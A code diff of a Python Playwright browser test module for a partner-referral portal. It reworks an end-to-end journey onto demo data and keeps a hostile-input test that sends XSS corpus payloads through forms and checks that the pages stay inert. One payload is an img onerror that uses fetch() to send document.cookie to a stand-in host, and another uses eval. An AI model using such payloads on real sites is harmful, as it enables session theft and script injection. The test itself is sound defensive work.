@@ -1,11 +1,15 @@
-"""Referrals in a real browser, CSRF on: the partner's form to the commission, and hostile input.
+"""Referrals in a real browser on the demo data, CSRF on: the partner's form to the commission.
 
-The journey: a partner types the website of a company another partner already registered and
-sees the live hint (never who registered it), submits anyway, and lands on the confirmation
-with the reference and the due time. Staff find the conflict in the inbox, accept it, take it,
-post an update and an internal note; the partner sees the update (not the note) on the timeline
-and in the outbox e-mail. Staff mark it won; the partner sees the commission. axe-core checks
-every page on the way.
+Both tests run on the demo data (the real `content/` and `portal.demo.load_demo`, demo
+referrals included), not on the fixture content: this module overrides `live_app`.
+
+The journey: a partner of Harbor Systems types the website of Tallpine Logistics, the demo
+company Brightline Consulting already registered, and sees the live hint (never who registered
+it), submits anyway, and lands on the confirmation with the reference and the due time. Staff
+find the conflict in the inbox, accept it, take it, post an update and an internal note; the
+partner sees the update (not the note) on the timeline and in the outbox e-mail, and
+Brightline's registration is told, without naming Harbor. Staff mark it won; the partner sees
+the commission the demo program's rule gives. axe-core checks every page on the way.
 
 The hostile test sends a spread of the XSS corpus through the same forms and checks that no
 page opens a dialog or carries live markup. Our Content-Security-Policy would block an injected
@@ -21,35 +25,71 @@ from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass
 from datetime import timedelta
+from decimal import ROUND_HALF_UP, Decimal
+from pathlib import Path
 from typing import Any
 
 import pytest
 import sqlalchemy as sa
+import yaml
 from flask import Flask
 
-from portal.accounts.models import Organization, OrgStatus, Role, User
+from portal import create_app
+from portal.accounts.models import Organization
 from portal.content_runtime import current_content
+from portal.demo import DEMO_ORGS, DEMO_PASSWORD, load_demo
 from portal.extensions import db
+from portal.inbox.actions import CONTESTED_MESSAGE
 from portal.notify.models import OutboxMessage
-from portal.referrals.models import Referral
-from portal.referrals.service import ReferralInput, submit_referral
+from portal.referrals.demo import REGISTERED_DEMO_COMPANY
+from portal.referrals.events import EventKind
+from portal.referrals.models import Referral, ReferralEvent, ReferralStatus
 from tests.browser.test_journey import assert_accessible
+from tests.conftest import DEMO_CONTENT
 from tests.xss_corpus import XSS_PAYLOADS, find_injections
 
-PASSWORD = "a long enough partner password"
-PARTNER_EMAIL = "priya@brightline.example"
-STAFF_EMAIL = "sam@vendor.example"
-RIVAL_ORG = "Harborview Alliance Group"
-RIVAL_NAME = "Rita Vance"
-RIVAL_EMAIL = "rita@harborview.example"
-# A registrable domain under a public suffix (.co.uk): *.example.com would all be one company.
-REGISTERED_WEBSITE = "https://www.blueharbor-logistics.co.uk"
+# The demo accounts (portal/demo.py): one password for all of them.
+PASSWORD = DEMO_PASSWORD
+STAFF_EMAIL = "staff@flywheel.example"
+STAFF_NAME = "Sam Rivera"
+# The journey's partner: Harbor Systems, not the organisation holding Tallpine.
+PARTNER_ORG = "Harbor Systems"
+PARTNER_EMAIL = "lena@harbor-systems.example"
+# Brightline Consulting registered Tallpine Logistics in the demo referrals.
+HOLDER_ORG = "Brightline Consulting"
+REGISTERED_DOMAIN = "tallpine-logistics.co.uk"
+# The hostile test's partner: a Brightline member (its own referrals, away from the journey's).
+HOSTILE_EMAIL = "priya@brightline.example"
 UPDATE_TEXT = "We booked a discovery call for Tuesday."
 NOTE_TEXT = "Budget approved by CFO - internal"
-# Fixture program (tests/fixtures/content/program.yml): a referral partner's sourced deal
-# earns 10%, capped at USD 20,000. 10% of 250,000 is 25,000, so the cap applies.
-DEAL_VALUE = "250000"
-COMMISSION = "USD 20,000.00"
+DEAL_VALUE = "123456.78"  # a value whose commission needs rounding to the cent
+
+
+def expected_commission(partner_type: str, involvement: str, value: str) -> tuple[str, bool]:
+    """The commission on a won deal, worked out from content/program.yml itself.
+
+    Rate times value, rounded half-up to the cent, held under the rule's cap (caps are in
+    major units of the program currency there). Returns the formatted amount and whether the
+    cap applied.
+    """
+    program = yaml.safe_load(Path(DEMO_CONTENT, "program.yml").read_text(encoding="utf-8"))
+    rule = next(
+        r
+        for r in program["commissions"]["rules"]
+        if r["partner_type"] == partner_type and r["involvement"] == involvement
+    )
+    amount = (Decimal(value) * Decimal(str(rule["rate_percent"])) / 100).quantize(
+        Decimal("0.01"), rounding=ROUND_HALF_UP
+    )
+    capped = rule.get("cap") is not None and amount > Decimal(rule["cap"])
+    if capped:
+        amount = Decimal(rule["cap"])
+    return f"{program['currency']} {amount:,.2f}", capped
+
+
+def _money(value: str) -> str:
+    return f"USD {Decimal(value):,.2f}"
+
 
 # A spread of the corpus: event handlers, script tags, attribute break-outs, autofocus
 # tricks, mutation XSS, comment and noscript confusion.
@@ -72,59 +112,75 @@ NOTE_PAYLOAD = '<img src="x" onerror="fetch(\'//xss.example/?c=\'+document.cooki
 REASON_PAYLOAD = "<img src=x:alert(alt) onerror=eval(src) alt=0>"
 
 
+@pytest.fixture(scope="module")
+def live_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
+    """The app on the demo data (real content/, `load_demo`) with CSRF and every protection on.
+
+    Overrides tests/browser/conftest.py's `live_app` for this module only: the other browser
+    tests keep the fixture content.
+    """
+    workdir: Path = tmp_path_factory.mktemp("browser-demo")
+    app = create_app(
+        {
+            "SECRET_KEY": "browser-test-key",
+            "SQLALCHEMY_DATABASE_URI": f"sqlite:///{workdir / 'portal.sqlite'}",
+            "CONTENT_DIR": str(DEMO_CONTENT),
+            "CONTENT_AUTO_RELOAD": False,
+            "MAIL_BACKEND": "log",
+            "RATELIMIT_ENABLED": False,
+        }
+    )
+    with app.app_context():
+        db.create_all()
+        assert load_demo(current_content()), "the demo data loads into the empty database"
+    yield app
+    with app.app_context():
+        db.engine.dispose()
+
+
 @dataclass(frozen=True)
 class Cast:
-    registered_ref: str  # the rival organisation's open registration
+    """What the demo data holds for the journey."""
+
+    holder_id: int  # Brightline's open Tallpine referral, the registration
+    holder_ref: str
+    holder_email: str  # who submitted it: the one its notices are e-mailed to
+    partner_type: str  # Harbor Systems' partner type
+    earlier_conflicts: tuple[str, ...]  # Harbor's demo conflicts for Tallpine already there
 
 
 @pytest.fixture(scope="module")
 def cast(live_app: Flask) -> Cast:
-    """Two referral partners, a staff member; the rival has registered Blue Harbor already."""
+    """Brightline holds Tallpine; Harbor Systems may already have a conflict for it."""
     with live_app.app_context():
-        ours = Organization(
-            name="Brightline Consulting",
-            partner_type="referral",
-            tier="registered",
-            status=OrgStatus.ACTIVE,
-        )
-        rival = Organization(
-            name=RIVAL_ORG, partner_type="referral", tier="silver", status=OrgStatus.ACTIVE
-        )
-        people = [
-            User(email=PARTNER_EMAIL, name="Priya Shah", role=Role.PARTNER_USER, organization=ours),
-            User(
-                email=RIVAL_EMAIL,
-                name=RIVAL_NAME,
-                role=Role.PARTNER_ADMIN,
-                organization=rival,
-            ),
-            User(email=STAFF_EMAIL, name="Sam Staff", role=Role.STAFF),
+        orgs = {o.name: o for o in db.session.scalars(sa.select(Organization))}
+        holder_org, harbor = orgs[HOLDER_ORG], orgs[PARTNER_ORG]
+        tallpine = db.session.scalars(
+            sa.select(Referral)
+            .where(Referral.company_domain == REGISTERED_DOMAIN)
+            .order_by(Referral.id)
+        ).all()
+        held = [
+            r
+            for r in tallpine
+            if r.organization_id == holder_org.id and r.status == ReferralStatus.ACCEPTED
         ]
-        for person in people:
-            person.set_password(PASSWORD)
-        db.session.add_all([ours, rival, *people])
-        db.session.commit()
-        registered = submit_referral(
-            people[1],
-            ReferralInput(
-                company_name="Blue Harbor Logistics Ltd",
-                company_website=REGISTERED_WEBSITE,
-                contact_name="Morgan Ellis",
-                contact_email="morgan.ellis@blueharbor-logistics.co.uk",
-                contact_phone="",
-                contact_role="COO",
-                region="Europe",
-                estimated_value_minor=9_000_000,
-                estimated_currency="USD",
-                expected_timing="3-6",
-                customer_need="Route planning across twelve depots.",
-                involvement="sourced",
-                idempotency_key="rival-blueharbor-1",
-            ),
-            current_content().program,
-        ).referral
-        db.session.commit()
-        return Cast(registered_ref=registered.reference)
+        assert len(held) == 1, "Brightline's demo referral holds Tallpine"
+        holder = held[0]
+        assert holder.company_name == REGISTERED_DEMO_COMPANY
+        assert {name: kind for name, kind, *_ in DEMO_ORGS}[PARTNER_ORG] == harbor.partner_type
+        earlier = tuple(
+            r.reference
+            for r in tallpine
+            if r.organization_id == harbor.id and r.status == ReferralStatus.CONFLICT
+        )
+        return Cast(
+            holder_id=holder.id,
+            holder_ref=holder.reference,
+            holder_email=holder.submitted_by.email,
+            partner_type=harbor.partner_type,
+            earlier_conflicts=earlier,
+        )
 
 
 @dataclass
@@ -223,29 +279,31 @@ def test_referral_from_conflict_hint_to_commission(
 ) -> None:
     from playwright.sync_api import expect
 
+    commission_text, capped = expected_commission(cast.partner_type, "sourced", DEAL_VALUE)
     partner = _watch(page)
     _sign_in(page, PARTNER_EMAIL)
 
-    # The partner types the website of a company another partner registered: the live hint.
+    # The partner types the website of the demo company Brightline registered: the live hint.
     page.goto("/referrals/new")
     assert_accessible(page, "the referral form")
     _fill_referral(
         page,
-        company="Blue Harbor Logistics",
-        website="www.blueharbor-logistics.co.uk/contact",
-        email="jordan.blake@blueharbor-logistics.co.uk",
+        company="Tallpine Logistics",
+        website=f"www.{REGISTERED_DOMAIN}/contact",
+        email=f"jordan.blake@{REGISTERED_DOMAIN}",
         contact="Jordan Blake",
         role="Head of Operations",
-        need="Their dispatch team plans routes by hand; they want live tracking.",
+        need="Their depot managers plan routes by hand; they want a regional forecast.",
     )
     hint = page.locator("#registration-hint")
     expect(hint).to_contain_text("already open")
     expect(hint).to_contain_text("rules of engagement")
     expect(hint.get_by_role("link", name="rules of engagement")).to_be_visible()
-    assert RIVAL_ORG not in page.content() and RIVAL_NAME not in page.content()
+    assert "Brightline" not in page.content()
 
     # Submitting anyway: a conflict under review, with the reference and the due time.
     ref = _submit_referral(page)
+    assert ref not in cast.earlier_conflicts
     expect(page.get_by_role("heading", level=1)).to_have_text(f"Thank you: referral {ref} is in")
     expect(page.get_by_role("status").filter(has_text="Under review")).to_be_visible()
     due = page.locator("p", has_text="Expect a first response by")
@@ -253,11 +311,12 @@ def test_referral_from_conflict_hint_to_commission(
     with live_app.app_context():
         mine = db.session.get(Referral, int(ref[2:]))
         assert mine is not None and mine.status == "conflict"
-        assert mine.conflict_with_id == int(cast.registered_ref[2:])
+        assert mine.organization.name == PARTNER_ORG
+        assert mine.conflict_with_id == cast.holder_id
         assert mine.first_response_due_at - mine.submitted_at == timedelta(hours=48)
         due_at = mine.first_response_due_at.isoformat()
     assert due.locator("time").get_attribute("datetime") == due_at
-    assert RIVAL_ORG not in page.content() and cast.registered_ref not in page.content()
+    assert "Brightline" not in page.content() and cast.holder_ref not in page.content()
     assert_accessible(page, "the confirmation page")
 
     # Staff, in their own browser: find it in the inbox, accept, take it, update, note.
@@ -267,16 +326,17 @@ def test_referral_from_conflict_hint_to_commission(
         staff.get_by_label("Company or reference").fill(ref)
         staff.get_by_label("Company or reference").press("Enter")
         row = staff.locator("#inbox-results tbody tr")
-        expect(row).to_have_count(1)
+        expect(row).to_have_count(1)  # the new one only, not Harbor's earlier demo conflict
+        expect(row).to_contain_text(ref)
         expect(row).to_contain_text("Conflict")
-        expect(row).to_contain_text("Brightline Consulting")
+        expect(row).to_contain_text(PARTNER_ORG)
         assert_accessible(staff, "the inbox")
 
-        row.get_by_role("link", name="Blue Harbor Logistics", exact=True).click()
+        row.get_by_role("link", name="Tallpine Logistics", exact=True).click()
         staff.wait_for_url(f"**/inbox/{ref}")
         assert_accessible(staff, "the staff referral page")
         _act(staff, "Accept under the rules of engagement", f"{ref} accepted")
-        _act(staff, "Assign to me", "Assigned to Sam Staff")
+        _act(staff, "Assign to me", f"Assigned to {STAFF_NAME}")
         staff.get_by_label("Update for the partner").fill(UPDATE_TEXT)
         _act(staff, "Post update", "Update posted")
         staff.get_by_label("Internal note (the partner never sees it)").fill(NOTE_TEXT)
@@ -284,7 +344,7 @@ def test_referral_from_conflict_hint_to_commission(
         timeline = staff.locator("#referral-panel ol.timeline")
         expect(timeline).to_contain_text(UPDATE_TEXT)
         expect(timeline).to_contain_text(NOTE_TEXT)
-        expect(_detail(staff.locator("#referral-panel"), "Owner")).to_have_text("Sam Staff")
+        expect(_detail(staff.locator("#referral-panel"), "Owner")).to_have_text(STAFF_NAME)
         assert_accessible(staff, "the staff referral page after the actions")
 
         # The partner sees the acceptance and the update, never the internal note.
@@ -292,42 +352,68 @@ def test_referral_from_conflict_hint_to_commission(
         partner_timeline = page.locator("ol.timeline")
         expect(partner_timeline).to_contain_text("Accepted by the partner team")
         expect(partner_timeline).to_contain_text(UPDATE_TEXT)
-        assert NOTE_TEXT not in page.content()
-        expect(_detail(page, "Owner")).to_have_text("Sam")  # the owner's first name
+        assert NOTE_TEXT not in page.content() and "Brightline" not in page.content()
+        expect(_detail(page, "Owner")).to_have_text(STAFF_NAME.split()[0])  # the first name
         with live_app.app_context():
             mail = db.session.scalars(
                 sa.select(OutboxMessage).where(OutboxMessage.to_email == PARTNER_EMAIL)
             ).all()
-            rival_mail = db.session.scalars(
-                sa.select(OutboxMessage).where(OutboxMessage.to_email == RIVAL_EMAIL)
+            holder_mail = db.session.scalars(
+                sa.select(OutboxMessage).where(OutboxMessage.to_email == cast.holder_email)
+            ).all()
+            contested = db.session.scalars(
+                sa.select(ReferralEvent).where(
+                    ReferralEvent.referral_id == cast.holder_id,
+                    ReferralEvent.kind == EventKind.REGISTRATION_CONTESTED,
+                )
             ).all()
         update_mail = [m for m in mail if UPDATE_TEXT in m.body_text]
         assert len(update_mail) == 1 and UPDATE_TEXT in update_mail[0].body_html
+        assert ref in update_mail[0].subject
         assert f"/referrals/{ref}" in update_mail[0].body_text
         for message in mail:
             for part in (message.subject, message.body_text, message.body_html):
-                assert NOTE_TEXT not in part and RIVAL_ORG not in part
-        # The earlier registration is told, without naming who won the company.
-        told = [m for m in rival_mail if "Another referral for this company" in m.body_text]
-        assert told and "Brightline" not in told[0].body_text + told[0].body_html
+                assert NOTE_TEXT not in part and "Brightline" not in part
+        # Brightline's registration is told on its timeline and by e-mail, without naming who.
+        assert [e.message for e in contested] == [CONTESTED_MESSAGE]
+        assert contested[0].partner_visible
+        told = [
+            m
+            for m in holder_mail
+            if cast.holder_ref in m.subject and "Another referral for this company" in m.body_text
+        ]
+        assert len(told) == 1
+        assert "Harbor" not in told[0].subject + told[0].body_text + told[0].body_html
+        assert ref not in told[0].subject + told[0].body_text + told[0].body_html
 
         # Staff mark it won with a value: the commission follows from the program's rule.
         staff.get_by_label("Deal value (leave empty to use the recorded one)").fill(DEAL_VALUE)
-        _act(staff, "Mark won", f"commission {COMMISSION}")
+        _act(staff, "Mark won", f"commission {commission_text}")
         assert staff_window.dialogs == [] and staff_window.problems == []
+
+    # Brightline, in its own browser, reads the notice on its Tallpine referral: no Harbor.
+    with _signed_in(browser, live_url, cast.holder_email) as holder_window:
+        holder_page = holder_window.page
+        holder_page.goto(f"/referrals/{cast.holder_ref}")
+        expect(holder_page.locator("ol.timeline")).to_contain_text(CONTESTED_MESSAGE)
+        assert "Harbor" not in holder_page.content() and ref not in holder_page.content()
+        assert holder_window.dialogs == [] and holder_window.problems == []
 
     page.reload()
     commission = page.locator("section", has=page.get_by_role("heading", name="Commission"))
-    expect(commission).to_contain_text(COMMISSION)
-    expect(commission).to_contain_text("capped at USD 20,000.00")
+    expect(commission).to_contain_text(commission_text)
+    if capped:
+        expect(commission).to_contain_text("capped at")
+    else:
+        expect(commission).not_to_contain_text("capped at")
     expect(page.get_by_role("heading", level=1)).to_contain_text("Won")
     assert_accessible(page, "the partner's referral page")
 
     page.get_by_role("link", name="See all your earnings").click()
     page.wait_for_url("**/earnings")
     earning = page.locator("tr", has=page.get_by_role("link", name=ref))
-    expect(earning).to_contain_text(COMMISSION)
-    expect(earning).to_contain_text("USD 250,000.00")
+    expect(earning).to_contain_text(commission_text)
+    expect(earning).to_contain_text(_money(DEAL_VALUE))
     assert_accessible(page, "the earnings page")
     assert partner.dialogs == [] and partner.problems == []
 
@@ -340,13 +426,11 @@ def _assert_inert(window: Window, where: str) -> None:
 
 
 @pytest.mark.browser
-def test_hostile_input_opens_no_dialog(
-    browser: Any, live_app: Flask, live_url: str, cast: Cast
-) -> None:
+def test_hostile_input_opens_no_dialog(browser: Any, live_app: Flask, live_url: str) -> None:
     payloads = (*FORM_PAYLOADS, UPDATE_PAYLOAD, NOTE_PAYLOAD, REASON_PAYLOAD)
     assert set(payloads) <= set(XSS_PAYLOADS), "the payloads come from the corpus"
     with (
-        _signed_in(browser, live_url, PARTNER_EMAIL, bypass_csp=True) as partner,
+        _signed_in(browser, live_url, HOSTILE_EMAIL, bypass_csp=True) as partner,
         _signed_in(browser, live_url, STAFF_EMAIL, bypass_csp=True) as staff,
     ):
         _hostile_round_trip(partner, staff)
